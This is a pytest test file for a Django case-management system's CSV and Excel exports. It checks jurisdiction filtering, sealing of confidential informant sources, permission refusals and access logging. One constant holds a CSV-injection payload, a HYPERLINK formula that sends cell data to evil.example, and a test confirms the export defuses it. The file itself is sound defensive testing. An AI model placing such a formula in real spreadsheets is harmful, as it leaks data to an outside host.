"""The exports' services: the rows are the list's (filters, jurisdiction), the source stays
sealed in both formats, cells cannot run as formulas, and the refusals say why."""

from __future__ import annotations

import datetime as dt
import re

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone, translation

from cases.accounts import roles
from cases.audit.models import AccessLogEntry
from cases.exports.models import ExportJob
from cases.exports.services import ExportError, export_preview, export_request
from tests.exports.conftest import csv_rows, file_bytes, run_export, xlsx_rows
from tests.factories import UnitFactory, UserFactory, governorate, make_case, open_deadline
from tests.referrals.conftest import SOURCE, make_referral

pytestmark = pytest.mark.django_db


# --- Rows: the list's, in the user's jurisdiction ------------------------------------------------


def test_a_case_export_has_the_rows_of_the_list_with_its_filters(officer):
    arrested = make_case(by=officer, kind="arrest")
    voluntary = make_case(by=officer, kind="voluntary")
    job = run_export(officer, query="kind=arrest&page=3")
    numbers = [row[0] for row in csv_rows(job)[1:]]
    assert numbers == [arrested.number]
    assert voluntary.number not in numbers
    assert job.status == ExportJob.Status.DONE
    assert job.rows_done == job.rows_total == 1
    assert job.filters == {"scope": "list", "kind": "arrest"}


def test_an_outsiders_export_contains_no_anbar_rows(officer, outsider):
    anbar = [make_case(by=officer) for _ in range(3)]
    mosul = make_case(by=outsider)
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        job = run_export(outsider, fmt=fmt)
        numbers = [row[0] for row in read(job)[1:]]
        assert numbers == [mosul.number]
        content = file_bytes(job)
        for case in anbar:
            assert case.number.encode() not in content


def test_the_list_order_is_kept(officer):
    first = make_case(by=officer)
    second = make_case(by=officer)
    newest = [r[0] for r in csv_rows(run_export(officer))[1:]]
    oldest = [r[0] for r in csv_rows(run_export(officer, query="sort=oldest"))[1:]]
    assert newest == [second.number, first.number]
    assert oldest == [first.number, second.number]


def test_arabic_headings_and_labels_in_the_users_language(officer):
    make_case(by=officer)
    job = run_export(officer, language="ar")
    heading = csv_rows(job)[0]
    with translation.override("ar"):
        expected = str(translation.gettext("Case number"))
    assert expected != "Case number"  # the catalogue has it: the test would fail otherwise
    assert heading[0] == expected
    assert "محمد" in csv_rows(job)[1][1]  # Arabic names survive the round trip


def test_dates_are_iso_in_csv_and_dates_in_excel(officer):
    case = make_case(by=officer)
    row = csv_rows(run_export(officer))[1]
    opened = timezone.localtime(case.opened_at)
    assert row[7] == opened.strftime("%Y-%m-%d %H:%M")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row[8])
    cell = xlsx_rows(run_export(officer, fmt="xlsx"))[1][7]
    assert isinstance(cell, dt.datetime)
    assert cell.strftime("%Y-%m-%d %H:%M") == opened.strftime("%Y-%m-%d %H:%M")


# --- Sealed sources ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_referral_export_shows_the_code_name_and_never_the_source(officer, fmt):
    referral = make_referral(by=officer)
    job = run_export(officer, dataset="referrals", fmt=fmt)
    content = file_bytes(job)
    assert referral.source_code.encode() in content
    assert referral.number.encode() in content
    for value in SOURCE.values():
        assert value.encode() not in content, value
    # Not even a fragment of the name or the phone number.
    assert b"Khalaf" not in content
    assert b"770 123" not in content


def test_critical_referrals_are_exported_only_from_the_supervisors_page(officer, supervisor):
    critical = make_referral(by=officer, source_risk="critical")
    make_referral(by=officer)
    with pytest.raises(PermissionDenied):
        export_preview(user=officer, dataset="referrals", scope="critical")
    job = run_export(supervisor, dataset="referrals", scope="critical")
    assert [r[0] for r in csv_rows(job)[1:]] == [critical.number]


# --- Formulas ------------------------------------------------------------------------------------

PAYLOAD = '=HYPERLINK("http://evil.example/"&A1,"click")'


def test_csv_injection_is_defused_in_csv_and_excel(officer):
    make_referral(by=officer, subject_description=PAYLOAD)
    job = run_export(officer, dataset="referrals")
    subject = csv_rows(job)[1][3]
    assert subject == "'" + PAYLOAD

    job = run_export(officer, dataset="referrals", fmt="xlsx")
    assert xlsx_rows(job)[1][3] == "'" + PAYLOAD
    sheet = file_bytes(job)
    assert b"<f>" not in sheet  # no formula anywhere in the workbook


# --- Hearings and deadlines ----------------------------------------------------------------------


def test_deadlines_mine_and_supervision(officer, supervisor, colleague):
    from tests.factories import DossierFactory

    mine = open_deadline(DossierFactory(), responsible_user=officer)
    theirs = open_deadline(DossierFactory(), responsible_user=colleague)
    job = run_export(officer, dataset="deadlines", scope="mine")
    labels = [r[2] for r in csv_rows(job)[1:]]
    assert labels == [mine.object_label]
    with pytest.raises(PermissionDenied):
        export_preview(user=officer, dataset="deadlines", scope="supervision")
    job = run_export(supervisor, dataset="deadlines", scope="supervision", query="which=upcoming")
    labels = {r[2] for r in csv_rows(job)[1:]}
    assert labels == {mine.object_label, theirs.object_label}


def test_the_docket_export_has_the_courts_hearings(officer):
    from cases.courts.services import hearing_schedule
    from tests.courts.conftest import bring_to_trial

    court = UnitFactory(governorate=governorate("ANB"), kind="felony_court")
    judge = UserFactory(unit=court, roles=[roles.JUDGE])
    case = bring_to_trial(make_case(by=officer), officer)
    at = timezone.now() + dt.timedelta(days=2)
    hearing_schedule(case=case, court=court, judge=judge, scheduled_at=at, kind="trial", by=judge)
    rows = csv_rows(run_export(judge, dataset="hearings", scope="docket", query="which=all"))
    assert [r[3] for r in rows[1:]] == [case.number]
    assert rows[1][0] == timezone.localtime(at).strftime("%Y-%m-%d %H:%M")


# --- Refusals and the access log -----------------------------------------------------------------


def test_users_without_the_list_or_the_export_permission_are_refused(auditor, no_role_user):
    for user in (auditor, no_role_user):
        with pytest.raises(PermissionDenied):
            export_preview(user=user, dataset="cases")


def test_filters_the_list_refuses_are_refused(officer, outsider):
    with pytest.raises(ExportError, match="not valid"):
        export_preview(user=officer, dataset="cases", query="status=bogus")
    # A unit of another governorate is not a choice of the Anbar officer's filter form.
    with pytest.raises(ExportError):
        export_preview(user=officer, dataset="cases", query=f"unit={outsider.unit_id}")


def test_nothing_to_export_too_many_rows_and_too_many_at_once(officer, settings):
    preview = export_preview(user=officer, dataset="cases")
    assert preview.count == 0
    with pytest.raises(ExportError, match="nothing to export"):
        export_request(user=officer, dataset="cases", format="csv", filters=preview.filters)
    make_case(by=officer)
    make_case(by=officer)
    settings.EXPORTS_MAX_ROWS = 1
    with pytest.raises(ExportError, match="more than one export may hold"):
        export_request(user=officer, dataset="cases", format="csv", filters=preview.filters)
    settings.EXPORTS_MAX_ROWS = 10
    settings.EXPORTS_MAX_ACTIVE = 2
    for _ in range(2):
        export_request(user=officer, dataset="cases", format="csv", filters=preview.filters)
    with pytest.raises(ExportError, match="under way"):
        export_request(user=officer, dataset="cases", format="csv", filters=preview.filters)
    with pytest.raises(ExportError, match="CSV or Excel"):
        export_request(user=officer, dataset="cases", format="pdf", filters=preview.filters)


def test_asking_for_an_export_is_access_logged_without_personal_data(officer):
    case = make_case(by=officer)
    preview = export_preview(user=officer, dataset="cases")
    job = export_request(user=officer, dataset="cases", format="xlsx", filters=preview.filters)
    entry = AccessLogEntry.objects.get(action=AccessLogEntry.Action.EXPORT, object_id=str(job.pk))
    assert entry.user == officer
    assert entry.object_label == f"EXP-{job.pk} cases (xlsx)"
    assert "1 rows of cases" in entry.reason
    for text in (case.person.display_name, case.person.given_name_lat, case.number):
        assert text not in entry.reason + entry.object_label
